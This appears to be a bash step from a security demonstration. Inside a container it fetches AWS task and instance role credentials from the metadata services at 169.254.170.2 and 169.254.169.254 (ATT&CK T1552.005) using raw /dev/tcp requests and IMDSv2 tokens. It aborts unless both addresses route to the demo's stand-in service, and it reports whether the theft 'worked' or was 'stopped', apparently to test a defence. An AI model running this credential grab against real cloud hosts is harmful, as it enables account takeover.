#!/usr/bin/env bash
# Takes the credentials of the task (169.254.170.2) and of the instance (169.254.169.254) from the metadata services. MITRE ATT&CK T1552.005, Cloud Instance Metadata API.
. "$(dirname "$0")/lib.sh"

# The real services must never be asked: go on only if both addresses lead to
# the demo's stand-in (the kernel writes addresses in hex, last byte first).
stand_in=$(docker inspect --format '{{(index .NetworkSettings.Networks "castellan-demo").IPAddress}}' castellan-demo-metadata)
IFS=. read -r a b c d <<<"$stand_in"
gateway=$(printf '%02X%02X%02X%02X' "$d" "$c" "$b" "$a")
for address in 02AAFEA9 FEA9FEA9; do
	in_storefront grep -q "$address.$gateway" /proc/net/route || cannot "the storefront has no route to the demo's metadata service; start the demo again"
done

out=$(through_label "exec 2>/dev/null; bash -c '
ask() { exec 3<>/dev/tcp/\$1/80; printf \"%s HTTP/1.0\r\n%s\r\n\" \"\$2\" \"\$3\" >&3; timeout 5 sed \"1,/^.\$/d\" <&3; }
ask 169.254.170.2 \"GET \$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI\"; echo
token=\$(ask 169.254.169.254 \"PUT /latest/api/token\" \"X-aws-ec2-metadata-token-ttl-seconds: 60
\")
with=\$(printf \"X-aws-ec2-metadata-token: %s\r\n.\" \$token)
path=/latest/meta-data/iam/security-credentials/
role=\$(ask 169.254.169.254 \"GET \$path\" \"\${with%.}\")
ask 169.254.169.254 \"GET \$path\$role\" \"\${with%.}\"'")
keys=$(grep -o '"AccessKeyId":"[A-Z0-9]*"' <<<"$out" | sort -u | tr '\n' ' ')
[[ $keys == *IOSFODNN* && $keys == *I44QH8* ]] || stopped "not both were had: $out"
worked "$keys"
